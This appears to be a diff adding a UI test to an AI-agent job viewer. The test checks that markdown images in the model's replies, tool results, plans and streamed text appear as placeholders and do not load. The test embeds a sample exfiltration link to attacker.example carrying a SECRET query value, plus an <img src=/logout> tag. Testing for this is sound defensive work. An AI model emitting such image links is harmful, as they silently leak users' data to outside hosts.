@@ -542,6 +542,30 @@ async def test_an_approval_answered_elsewhere_shows_its_outcome(user: User, serv
     await user.should_not_see(marker="approve")
 
 
+async def test_images_in_replies_streams_tool_results_and_plans_are_placeholders(
+        user: User, services: Services, make_job, open_view):
+    """Spec J6: no rendering of the model's words carries an <img> that loads; the browser still sanitizes."""
+    leak = "![x](http://attacker.example/leak?d=SECRET)"
+    job = make_job([user_msg("hi"), text(f"Saved. {leak}"), tool("t1", "Task", {"prompt": "look"}),
+                    result_of("t1", f"Found it: {leak}")], status=JobStatus.RUNNING)
+    await open_view(job.id)
+    planned = await _pending(services, job.id, PLAN, "ExitPlanMode", {"plan": f"# Plan\n\n{leak}"})
+    delta(services, job.id, "message_start", message_id="m2")
+    delta(services, job.id, "block_start", index=0, block_type="text")
+    delta(services, job.id, "text_delta", f"Streaming {leak}\n\nMore <img src=/logout> text\n", index=0)
+    await see(user, "assistant-streaming", "More")
+    await user.should_see(marker="approval-card")
+
+    rendered = [*user.find(ui.markdown).elements, *(e for e in user.find(LiveHtml).elements if e.props.get("html"))]
+    shown = [e.props.get("innerHTML") or e.props.get("html") or "" for e in rendered]
+    with_images = [html for html in shown if "ccs-remote-image" in html]
+    assert len(with_images) == 5, shown  # reply, subagent result, plan, streamed chunk, streamed tail
+    assert all("<img" not in html for html in shown)
+    assert any("Image from <b>this server</b>" in html for html in with_images)
+    assert all(e.props.get("sanitize") for e in rendered if isinstance(e, ui.markdown))
+    planned.cancel()
+
+
 # -- streaming markdown: where a reply can be split -------------------------------------------
 
 
